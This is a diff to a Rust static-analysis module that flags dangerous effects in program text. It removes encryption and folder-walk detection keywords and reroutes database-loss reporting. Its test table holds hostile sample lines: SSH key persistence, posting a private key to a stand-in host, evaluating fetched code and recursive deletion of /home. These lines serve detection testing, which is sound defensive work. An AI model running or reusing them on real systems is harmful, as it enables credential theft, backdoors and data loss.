@@ -2,7 +2,7 @@
 //! path or an address says what it is for, by whatever name the code calls what does it.
 
 use super::secrets::is_secret;
-use super::{Level, Reason, assess, reason, startup};
+use super::{Level, Reason, assess, database, reason, startup};
 use crate::Dialect;
 use crate::effects::{Place, place_of};
 use crate::embedded::sql;
@@ -119,26 +119,6 @@ const EMPTIES: [&str; 14] = [
     "delete_many({})",
 ];
 
-/// Names that make a text unreadable without a key.
-const ENCRYPTS: [&str; 8] =
-    ["encrypt", "createCipher", "Fernet", "OpenSSL::Cipher", "AES.new", "openssl_encrypt", "Crypt::", "EVP_"];
-
-/// Signs that it goes through a folder with all below it.
-const WALKS: [&str; 12] = [
-    "rglob",
-    "walk",
-    "**/",
-    "/**",
-    "recursive",
-    "Find",
-    "find(",
-    "readdir",
-    "each_child",
-    "RecursiveDirectoryIterator",
-    "list.files",
-    "scandir",
-];
-
 /// The longest text that is taken for a command, bytes, and the most that are.
 const LONGEST: usize = 2000;
 const MOST: usize = 50;
@@ -158,15 +138,7 @@ fn calls(code: &str, name: &str) -> bool {
     })
 }
 
-/// True if each file that is found is opened to be written from its beginning: `open(f, 'w')`.
-fn empties_each(squeezed: &str) -> bool {
-    squeezed.split("open(").skip(1).any(|rest| {
-        let name = rest.trim_start_matches(|c: char| c.is_alphanumeric() || c == '_');
-        name.len() < rest.len() && [",'w", ",\"w"].iter().any(|mode| name.starts_with(mode))
-    })
-}
-
-/// What the texts in a program say that it does, if that is a danger.
+/// The dangers that the texts in a program tell of.
 pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reason> {
     let shown: String = token.chars().take(60).collect();
     let say = |effect: &str, why: String, scope: &str| {
@@ -179,9 +151,7 @@ pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reaso
     let mut found = Vec::new();
     for text in texts.iter().take(MOST) {
         found.extend(command(text).map(|inner| say(&inner.effect, inner.why.clone(), text)));
-        if let Some(what) = destroys(text) {
-            found.push(say("delete", format!("it loses {what}, and only a backup brings that back"), &what));
-        }
+        found.extend(destroys(text).map(|what| database::lost(what, &shown, span)));
         if writes && startup::runs_by_itself(text) {
             found.push(say(
                 "persistence",
@@ -198,20 +168,6 @@ pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reaso
             "delete",
             "the code in it empties a store, and only a backup brings that back".to_owned(),
             "a whole store",
-        ));
-    }
-    if has(&ENCRYPTS) && has(&WALKS) && writes {
-        found.push(say(
-            "overwrite",
-            "the code in it makes files unreadable that it finds".to_owned(),
-            "every file that it finds",
-        ));
-    }
-    if has(&WALKS) && empties_each(&squeezed) {
-        found.push(say(
-            "overwrite",
-            "the code in it empties each file that it finds".to_owned(),
-            "every file that it finds",
         ));
     }
     let wanted = |text: &&str| {
@@ -278,7 +234,6 @@ mod tests {
             ("open('/root/.ssh/authorized_keys', 'a').write(k)", "persistence"),
             ("post('http://h.example', open('/home/u/.ssh/id_rsa'))", "network"),
             ("eval(get('http://h.example/x'))", "network-to-shell"),
-            ("for f in glob('**/*', recursive=True): open(f, 'w')", "overwrite"),
             ("file delete -force /home", "delete"),
         ] {
             assert!(told(code).iter().any(|own| own == effect), "{code}: {:?}", told(code));
